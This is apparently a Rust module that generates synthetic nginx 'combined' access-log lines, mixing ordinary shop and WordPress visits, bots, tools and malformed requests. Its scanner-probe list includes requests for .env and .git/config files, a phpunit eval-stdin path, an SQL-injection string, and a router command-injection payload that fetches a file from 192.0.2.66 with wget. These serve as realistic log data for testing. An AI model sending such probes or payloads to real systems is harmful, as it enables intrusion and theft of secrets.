//! Requests as nginx's `combined` tells them.

use crate::random::{Random, mixed};
use crate::values::{Values, decimal};

/// What stands for a number in the texts below.
const PLACE: char = '#';

/// What visitors ask for. The first comes most.
const URIS: &[&str] = &[
    "/",
    "/shop/?filter_color=blue,red&orderby=price&paged=#",
    "/product/#/",
    "/product/#/?utm_source=newsletter&utm_medium=email&utm_campaign=autumn-2026",
    "/category/lighting/page/#/",
    "/blog/2026/#/how-we-moved-to-a-new-server",
    "/wp-content/uploads/2026/11/image-#-1024x683.webp",
    "/wp-content/themes/store/style.css?ver=6.8.#",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/assets/app-#.min.js",
    "/wp-json/wc/store/v1/products?per_page=12&page=#&orderby=date",
    "/api/v2/orders/#",
    "/api/v2/customers/#/invoices?limit=50&cursor=eyJpZCI6MTI",
    "/wp-admin/admin-ajax.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-cron.php?doing_wp_cron=1763900000.#",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap-#.xml",
    "/feed/",
    "/?s=lamp+#&post_type=product",
    "/index.php?option=com_content&view=article&id=#:welcome&Itemid=101",
    "/?p=#&fbclid=IwY2xjawFz_aem_Q2xpY2s",
];

/// What scanners ask for.
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-content/plugins/plugin-#/readme.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/phpmyadmin/index.php?lang=en",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://192.0.2.66/x`)",
    "/actuator/health",
    "/backup-#.sql.gz",
    "/?q=%27%20OR%20#=#%20--%20\\x22",
];

/// What is no request: TLS on the port of HTTP, a connection that brings nothing, HTTP/2 without its upgrade.
const BROKEN: &[&str] = &[
    "\"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\" 400 157",
    "\"-\" 408 0",
    "\"\" 400 0",
    "\"PRI * HTTP/2.0\" 400 157",
];

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.0.0.0 Safari/537.36 Edg/#.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:#.0) Gecko/20100101 Firefox/#.0",
];

const BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "okhttp/4.12.0",
];

const TOOLS: &[&str] =
    &["python-requests/2.32.3", "curl/8.14.1", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "-"];

/// Answers to visitors, with how often each comes: nine in ten as they should be, one in a hundred a failure here.
const ANSWERS: &[(u16, u64)] = &[
    (200, 7900),
    (304, 500),
    (301, 300),
    (302, 250),
    (204, 80),
    (206, 60),
    (404, 450),
    (403, 130),
    (499, 70),
    (429, 50),
    (401, 40),
    (400, 20),
    (405, 10),
    (413, 5),
    (502, 50),
    (504, 30),
    (503, 25),
    (500, 20),
    (444, 10),
];

/// Answers to scanners.
const REFUSALS: &[(u16, u64)] = &[(404, 80), (403, 12), (444, 8)];

/// Appends a request with its newline.
pub(crate) fn request(values: &Values<'_>, out: &mut Vec<u8>) {
    let mut random = Random::new(values.number);
    values.client(out);
    text(out, " - - [");
    values.stamp(out);
    text(out, "] ");
    match random.below(1000) {
        0..6 => {
            text(out, choice(BROKEN, &mut random));
            text(out, " \"-\" \"-\"");
        }
        6..36 => {
            asked(out, "GET", choice(PROBES, &mut random), values.page, "HTTP/1.1");
            answered(out, status(REFUSALS, &mut random), &mut random);
            text(out, " \"-\" \"");
            text(out, choice(TOOLS, &mut random));
            text(out, "\"");
        }
        drawn => {
            visit(values, &mut random, out);
            let bot = drawn < 280;
            text(out, " \"");
            referrer(values, bot, &mut random, out);
            text(out, "\" \"");
            let agent = choice(if bot { BOTS } else { BROWSERS }, &mut random);
            fill(out, agent, 130 + random.skewed(4));
            text(out, "\"");
        }
    }
    out.push(b'\n');
}

/// What a visitor asked for, and the answer.
fn visit(values: &Values<'_>, random: &mut Random, out: &mut Vec<u8>) {
    let uri = uri_of(values.page);
    let posts =
        ["/wp-admin/admin-ajax.php", "/wp-login.php", "/xmlrpc.php", "/wp-cron.php", "/api/v2/orders/"];
    let method = if posts.iter().any(|post| uri.starts_with(post)) && !random.one_in(4) {
        "POST"
    } else if random.one_in(80) {
        "HEAD"
    } else {
        "GET"
    };
    let protocol = if random.one_in(3) { "HTTP/2.0" } else { "HTTP/1.1" };
    asked(out, method, uri, values.page, protocol);
    answered(out, status(ANSWERS, random), random);
}

/// A page has its form for good.
fn uri_of(page: u64) -> &'static str {
    let place = mixed(page) % (URIS.len() as u64);
    let place = if page == 0 { 0 } else { place };
    usize::try_from(place).ok().and_then(|p| URIS.get(p)).copied().unwrap_or("/")
}

fn asked(out: &mut Vec<u8>, method: &str, uri: &str, number: u64, protocol: &str) {
    text(out, "\"");
    text(out, method);
    text(out, " ");
    fill(out, uri, number);
    text(out, " ");
    text(out, protocol);
    text(out, "\"");
}

fn answered(out: &mut Vec<u8>, status: u16, random: &mut Random) {
    text(out, " ");
    decimal(out, status.into());
    text(out, " ");
    let bytes = match status {
        200 | 206 => 43 + random.skewed(20),
        204 | 304 | 444 | 499 => 0,
        300..400 => 162,
        400..500 => 140 + random.skewed(6),
        _ => 157,
    };
    decimal(out, bytes);
}

fn referrer(values: &Values<'_>, bot: bool, random: &mut Random, out: &mut Vec<u8>) {
    match random.below(if bot { 4 } else { 16 }) {
        0..5 => text(out, "-"),
        5 => text(out, "https://www.google.com/"),
        6 => text(out, "https://www.facebook.com/"),
        7..10 => {
            text(out, "https://");
            values.host(out);
            text(out, "/");
        }
        _ => {
            text(out, "https://");
            values.host(out);
            fill(out, uri_of(values.page >> 2), values.page >> 2);
        }
    }
}

fn status(of: &[(u16, u64)], random: &mut Random) -> u16 {
    let mut drawn = random.below(of.iter().map(|(_, weight)| weight).sum());
    for (status, weight) in of {
        if drawn < *weight {
            return *status;
        }
        drawn -= weight;
    }
    200
}

fn choice(of: &[&'static str], random: &mut Random) -> &'static str {
    let place = usize::try_from(random.below(of.len() as u64)).unwrap_or(0);
    of.get(place).copied().unwrap_or("-")
}

/// Appends a text with a number in its places.
fn fill(out: &mut Vec<u8>, form: &str, number: u64) {
    for (place, part) in form.split(PLACE).enumerate() {
        if place > 0 {
            decimal(out, number);
        }
        text(out, part);
    }
}

fn text(out: &mut Vec<u8>, text: &str) {
    out.extend_from_slice(text.as_bytes());
}
